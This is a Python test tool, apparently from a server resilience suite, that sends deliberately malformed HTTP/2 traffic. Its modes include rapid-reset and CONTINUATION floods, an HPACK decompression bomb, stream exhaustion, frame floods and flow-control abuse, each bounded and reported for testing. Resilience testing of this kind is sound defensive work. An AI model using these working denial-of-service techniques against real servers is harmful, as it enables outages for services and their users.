#!/usr/bin/python3
"""x_h2_abuse.py: hand-built HTTP/2 frames for the exfil suite's h2 abuse
cases (catalogue EX-188 and its variants): what no conforming client
sends. Who runs it: exfil cases, as the workload (uid 1000 in sbx).

  x_h2_abuse.py HOST PORT SNI CAFILE MODE [ARGS...]

It connects with TLS (ALPN h2 only, trusting CAFILE), prints
"alpn=<selected>" (or "alpn=refused (...)", exit 3; exit 3 too when the
server did not select h2), sends the client preface and then what MODE
says, reading the server's frames between writes:

  req FIELD...                one HEADERS (END_STREAM) with exactly the
                              fields given, in order ("name:value", a
                              pseudo-header keeps its colon: ":path:/x")
  get PATH                    one well-formed GET (the positive control)
  rapid-reset N PATH          N HEADERS + RST_STREAM(CANCEL) pairs
  continuation N PATH         HEADERS without END_HEADERS, then N empty
                              CONTINUATION frames
  continuation-big BYTES PATH HEADERS without END_HEADERS, then BYTES of
                              valid header block in CONTINUATION frames
  hpack-bomb REFS PATH        SETTINGS_HEADER_TABLE_SIZE 4 GB, a normal
                              GET (control), then one header block that
                              inserts a 4000-byte entry and references it
                              REFS times (decoded: REFS * 4 KB)
  streams N PATH              N streams opened (HEADERS without
                              END_STREAM), in batches of 200
  eof-queued N PATH           N GETs (one write), then an abrupt close
                              (no GOAWAY): streams queued behind an
                              HTTP/1.1 upstream when the workload leaves
  reset-all N PATH            N GETs, then RST_STREAM(CANCEL) on each
                              while the upstream answers, then a GET of
                              PATH-after on the same connection
  flood KIND N                N SETTINGS, PING or PRIORITY frames
  window-overflow conn|stream PATH
                              a WINDOW_UPDATE that takes the connection's
                              (or an open stream's) window past 2^31-1
  zero-window PATH HOLD       SETTINGS_INITIAL_WINDOW_SIZE 0, a GET of
                              PATH, then HOLD seconds without a
                              WINDOW_UPDATE (touches $WS/h2stall when the
                              request is out)

Output, one fact a line: "status=N" / "status <sid>=N", "data <sid> <len>
<first bytes, escaped>", "dataframes <sid> <length of each DATA frame,...>", "reset <sid>=<code>" (the first reset also as
"reset=<code>"), "goaway=<code> last=<stream id>", "closed" (EOF),
"timeout", and per mode counters ("pairs_sent N", "frames_sent N",
"refused N", "open_max N", ...). Error codes are numbers (1 PROTOCOL_ERROR,
3 FLOW_CONTROL_ERROR, 7 REFUSED_STREAM, 11 ENHANCE_YOUR_CALM). Bounded:
every loop has a count, every read a deadline (at most 10 s per wait), at
most 8 MB read in all. Exit status 0 when the run went through (whatever
the server answered), 2 on a usage error, 3 without h2.
"""
import os
import select
import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_STREAMS, INITIAL_WINDOW = 1, 2, 3, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_READ = 8 << 20


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hint(value, prefix, first=0):
    """An HPACK integer (RFC 7541 5.1) with a PREFIX-bit prefix."""
    top = (1 << prefix) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hstr(s):
    b = s.encode("latin-1") if isinstance(s, str) else s
    return hint(len(b), 7) + b


def literal(name, value, index=False):
    """A literal field with a new name, without (or with) indexing."""
    return (b"\x40" if index else b"\x00") + hstr(name) + hstr(value)


def field(spec):
    """'name:value', where a pseudo-header keeps its leading colon."""
    if spec.startswith(":"):
        k, _, v = spec[1:].partition(":")
        return (":" + k, v)
    k, _, v = spec.partition(":")
    return (k, v)


def block(fields):
    """A header block of literals without indexing: no table state, so any
    number of blocks can be built ahead and sent in any order."""
    return b"".join(literal(k, v) for k, v in fields)


def std(sni, path, method="GET"):
    return [(":method", method), (":scheme", "https"), (":authority", sni),
            (":path", path)]


class Conn:
    def __init__(self, host, port, sni, cafile):
        ctx = ssl.create_default_context(cafile=cafile)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=5)
        try:
            self.s = ctx.wrap_socket(raw, server_hostname=sni)
        except ssl.SSLError as e:
            print("alpn=refused (%s)" % (e.reason or str(e))[:120], flush=True)
            raise SystemExit(3)
        self.alpn = self.s.selected_alpn_protocol()
        print("alpn=%s" % self.alpn, flush=True)
        if self.alpn != "h2":
            raise SystemExit(3)
        self.buf = b""
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 0xFFFFFFFF
        self.dec.max_header_list_size = 1 << 20
        self.hblock = None  # (sid, bytes) of a HEADERS awaiting CONTINUATION
        self.status, self.resets, self.data, self.data_len = {}, {}, {}, {}
        self.frames = {}  # stream id: the length of each DATA frame
        self.trailers = {}
        self.goaway = None
        self.closed = False
        self.wclosed = False  # a send failed: only reading is left
        self.read_total = 0
        self.ended = set()
        self.ack_settings = True
        self.window_updates = True

    def send(self, b):
        """False once the peer is gone (its close or reset ends a flood).
        What it sent before it went is still read (pump): a server that
        answers a flood with GOAWAY and then closes resets a sender that
        goes on, and the GOAWAY waits in the receive queue."""
        if self.closed or self.wclosed:
            return False
        try:
            self.s.sendall(b)
            return True
        except (OSError, ssl.SSLError):
            self.wclosed = True
            return False

    def on_frame(self, ftype, flags, sid, p):
        if ftype == SETTINGS and not flags & ACK and self.ack_settings:
            self.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, p[:8]))
        elif ftype == GOAWAY and len(p) >= 8:
            last, code = struct.unpack(">II", p[:8])
            if self.goaway is None:
                self.goaway = (code, last & 0x7FFFFFFF)
        elif ftype == RST and len(p) >= 4:
            self.resets.setdefault(sid, struct.unpack(">I", p[:4])[0])
        elif ftype == DATA:
            if flags & PADDED and p:
                p = p[1:len(p) - p[0]]
            self.data[sid] = self.data.get(sid, b"") + p[:4096 - len(self.data.get(sid, b""))]
            self.data_len[sid] = self.data_len.get(sid, 0) + len(p)
            self.frames.setdefault(sid, []).append(len(p))
            if self.window_updates and len(p):
                self.send(frame(WINDOW, 0, 0, struct.pack(">I", len(p))) +
                          frame(WINDOW, 0, sid, struct.pack(">I", len(p))))
            if flags & END_STREAM:
                self.ended.add(sid)
        elif ftype in (HEADERS, CONT):
            if ftype == HEADERS:
                if flags & PADDED and p:
                    p = p[1:len(p) - p[0]]
                if flags & PRIO:
                    p = p[5:]
                self.hblock = (sid, flags, p)
            elif self.hblock:
                self.hblock = (self.hblock[0], self.hblock[1], self.hblock[2] + p)
            if flags & END_HEADERS and self.hblock:
                hsid, hflags, hb = self.hblock
                self.hblock = None
                try:
                    hs = self.dec.decode(hb, raw=True)
                except Exception as e:  # noqa: BLE001 (bounded report)
                    print("hpack error %s" % type(e).__name__)
                    hs = []
                st = [v for k, v in hs if k == b":status"]
                if st and hsid not in self.status:
                    self.status[hsid] = st[0].decode()
                elif not st:
                    self.trailers[hsid] = hs
                if hflags & END_STREAM:
                    self.ended.add(hsid)

    def pump(self, wait, until=None):
        """Reads frames for at most WAIT seconds, or until UNTIL() holds, the
        peer closes, or MAX_READ bytes came."""
        end = time.time() + min(wait, 10)
        while not self.closed and self.read_total < MAX_READ:
            if until and until():
                return
            # WAIT 0 still takes what already came (a GOAWAY between batches).
            left = max(0.0, end - time.time())
            if not self.s.pending():
                r, _, _ = select.select([self.s], [], [], left)
                if not r:
                    return
            try:
                d = self.s.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not d:
                self.closed = True
                return
            self.read_total += len(d)
            self.buf += d
            while len(self.buf) >= 9:
                n = struct.unpack(">I", b"\0" + self.buf[:3])[0]
                if len(self.buf) < 9 + n:
                    break
                ftype, flags = self.buf[3], self.buf[4]
                sid = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
                p = self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                self.on_frame(ftype, flags, sid, p)

    def report(self, sids=None):
        for sid in sorted(self.status if sids is None else sids):
            if sid in self.status:
                print("status %d=%s" % (sid, self.status[sid]))
            if sid in self.data:
                print("data %d %d %r" % (sid, self.data_len[sid], self.data[sid][:2000]))
                print("dataframes %d %s" % (sid, ",".join(map(str, self.frames[sid][:200]))))
            for k, v in self.trailers.get(sid, []):
                print("trailer %d %s: %s" % (sid, k.decode("latin-1"), v.decode("latin-1")))
        for sid in sorted(self.resets if sids is None else sids):
            if sid in self.resets:
                print("reset %d=%d" % (sid, self.resets[sid]))
        if self.goaway:
            print("goaway=%d last=%d" % self.goaway)
        if self.closed:
            print("closed")

    def one(self, sid):
        """The answer to one stream, as x_cred_h2raw.py prints it."""
        if sid in self.status:
            print("status=%s" % self.status[sid])
        if sid in self.resets:
            print("reset=%d" % self.resets[sid])
        if self.goaway:
            print("goaway=%d" % self.goaway[0])
        if sid not in self.status and sid not in self.resets and not self.goaway \
                and not self.closed:
            print("timeout")

    def done(self, sid):
        return lambda: sid in self.ended or sid in self.resets or self.goaway is not None


def start(c, pairs=((ENABLE_PUSH, 0),)):
    c.send(PREFACE + settings(pairs))


def usage():
    print(__doc__, file=sys.stderr)
    raise SystemExit(2)


def main():
    if len(sys.argv) < 6:
        usage()
    host, port, sni, cafile, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
    args = sys.argv[6:]
    if mode == "hpack-bomb":
        c = Conn(host, port, sni, cafile)
        start(c, ((ENABLE_PUSH, 0), (HEADER_TABLE_SIZE, 0xFFFFFFFF)))
    elif mode == "zero-window":
        c = Conn(host, port, sni, cafile)
        c.window_updates = False
        start(c, ((ENABLE_PUSH, 0), (INITIAL_WINDOW, 0)))
    else:
        c = Conn(host, port, sni, cafile)
        start(c)

    if mode == "req":
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block([field(a) for a in args])))
        c.pump(8, c.done(1))
        c.one(1)
        c.report([1])
    elif mode == "get":
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block(std(sni, args[0]))))
        c.pump(8, c.done(1))
        c.one(1)
        c.report([1])
    elif mode == "rapid-reset":
        n, path = int(args[0]), args[1]
        pairs, sid = [], 1
        for k in range(n):
            pairs.append(frame(HEADERS, END_STREAM | END_HEADERS, sid,
                               block(std(sni, "%s-%d" % (path, k)))) +
                         frame(RST, 0, sid, struct.pack(">I", 8)))  # CANCEL
            sid += 2
        sent = 0
        for k in range(0, n, 50):
            if not c.send(b"".join(pairs[k:k + 50])):
                break
            sent = min(n, k + 50)
            c.pump(0, lambda: c.goaway is not None)
            if c.goaway or c.closed:
                break
        c.pump(5, lambda: c.goaway is not None)
        print("pairs_sent %d of %d" % (sent, n))
        if c.goaway:
            print("streams_accepted %d" % ((c.goaway[1] + 1) // 2))
        print("answered %d" % len(c.status))
        c.report([])
    elif mode in ("continuation", "continuation-big"):
        size, path = int(args[0]), args[1]
        head = block(std(sni, path))
        c.send(frame(HEADERS, END_STREAM, 1, head))
        sent = 0
        if mode == "continuation":
            for k in range(0, size, 500):
                m = min(500, size - k)
                if not c.send(frame(CONT, 0, 1) * m):
                    break
                sent += m
                c.pump(0)
                if c.goaway or c.closed:
                    break
            print("frames_sent %d of %d" % (sent, size))
        else:
            body, k = b"", 0
            while len(body) < size:
                body += literal("x-pad-%05d" % k, "p" * 900)
                k += 1
            for off in range(0, len(body), 16384):
                last = off + 16384 >= len(body)
                if not c.send(frame(CONT, END_HEADERS if last else 0, 1, body[off:off + 16384])):
                    break
                sent = min(len(body), off + 16384)
                c.pump(0)
                if c.goaway or c.closed:
                    break
            print("block_bytes_sent %d of %d" % (sent, len(body)))
        c.pump(5, lambda: c.goaway is not None or 1 in c.resets or 1 in c.status)
        c.one(1)
        c.report([1])
    elif mode == "hpack-bomb":
        refs, path = int(args[0]), args[1]
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block(std(sni, path.replace("/v1/", "/v1/control-", 1)))))
        c.pump(8, c.done(1))
        print("control status=%s" % c.status.get(1, "none"))
        bomb = b"\x82\x87" + hint(1, 4) + hstr(sni) + hint(4, 4) + hstr(path)
        bomb += literal("x-bomb", "b" * 4000, index=True)  # dynamic index 62
        bomb += b"\xbe" * refs
        print("block_bytes %d decoded_bytes_about %d" % (len(bomb), (refs + 1) * 4038))
        for off in range(0, len(bomb), 16384):
            first, last = off == 0, off + 16384 >= len(bomb)
            c.send(frame(HEADERS if first else CONT,
                         (END_STREAM if first else 0) | (END_HEADERS if last else 0),
                         3, bomb[off:off + 16384]))
        c.pump(8, c.done(3))
        print("bomb:")
        c.one(3)
        c.report([3])
    elif mode == "streams":
        n, path = int(args[0]), args[1]
        sent, sid = 0, 1
        while sent < n and not (c.goaway or c.closed):
            m = min(200, n - sent)
            out = b""
            for _ in range(m):
                out += frame(HEADERS, END_HEADERS, sid, block(std(sni, "%s-%d" % (path, sid), "POST")))
                sid += 2
            if not c.send(out):
                break
            sent += m
            # The server refuses what is past its limit: wait for those.
            c.pump(5, lambda: c.goaway is not None or
                   sum(1 for v in c.resets.values() if v == 7) >= sent - 100)
        c.pump(1)
        # Open: taken (at most a GOAWAY's last stream id) and not reset.
        top = c.goaway[1] if c.goaway else sid
        refused = sum(1 for v in c.resets.values() if v == 7)
        other = len(c.resets) - refused
        took = sum(1 for k in range(1, sid, 2) if k <= top and k not in c.resets)
        print("streams_sent %d of %d" % (sent, n))
        print("refused %d" % refused)
        print("other_resets %d" % other)
        print("answered %d" % len(c.status))
        print("open_max %d" % took)
        c.report([])
    elif mode == "flood":
        kind, n = args[0], int(args[1])
        one = {"settings": settings(), "ping": frame(PING, 0, 0, b"12345678"),
               "priority": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))}[kind]
        sent = 0
        for k in range(0, n, 100):
            m = min(100, n - k)
            if not c.send(one * m):
                break
            sent += m
            c.pump(0)
            if c.goaway or c.closed:
                break
        c.pump(5, lambda: c.goaway is not None)
        print("frames_sent %d of %d" % (sent, n))
        c.report([])
    elif mode == "window-overflow":
        where, path = args[0], args[1]
        if where == "conn":
            c.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
            c.pump(5, lambda: c.goaway is not None)
        else:
            c.send(frame(HEADERS, END_HEADERS, 1, block(std(sni, path, "POST"))))
            c.send(frame(WINDOW, 0, 1, struct.pack(">I", 0x7FFFFFFF)))
            c.pump(5, lambda: c.goaway is not None or 1 in c.resets)
        c.one(1)
        c.report([1])
    elif mode == "eof-queued":
        n, path = min(int(args[0]), 500), args[1]
        c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * k,
                              block(std(sni, "%s-%d" % (path, k)))) for k in range(n)))
        print("frames_sent %d" % n)
        c.s.close()
        return 0
    elif mode == "reset-all":
        n, path = min(int(args[0]), 500), args[1]
        c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * k,
                              block(std(sni, "%s-%d" % (path, k)))) for k in range(n)))
        c.pump(0.3)
        c.send(b"".join(frame(RST, 0, 1 + 2 * k, struct.pack(">I", 8)) for k in range(n)))
        last = 1 + 2 * n
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, last, block(std(sni, path + "-after"))))
        c.pump(10, c.done(last))
        print("after %s" % c.status.get(last, "none"))
        c.report([])
    elif mode == "zero-window":
        path, hold = args[0], float(args[1])
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block(std(sni, path))))
        c.pump(8, lambda: 1 in c.status or c.done(1)())
        ws = os.environ.get("WS")
        if ws:
            open(os.path.join(ws, "h2stall"), "w").close()
        end = time.time() + min(hold, 30)
        while time.time() < end and not c.closed:
            c.pump(end - time.time())
        print("data_bytes %d" % c.data_len.get(1, 0))
        c.one(1)
        c.report([])
    else:
        usage()
    try:
        c.s.close()
    except OSError:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
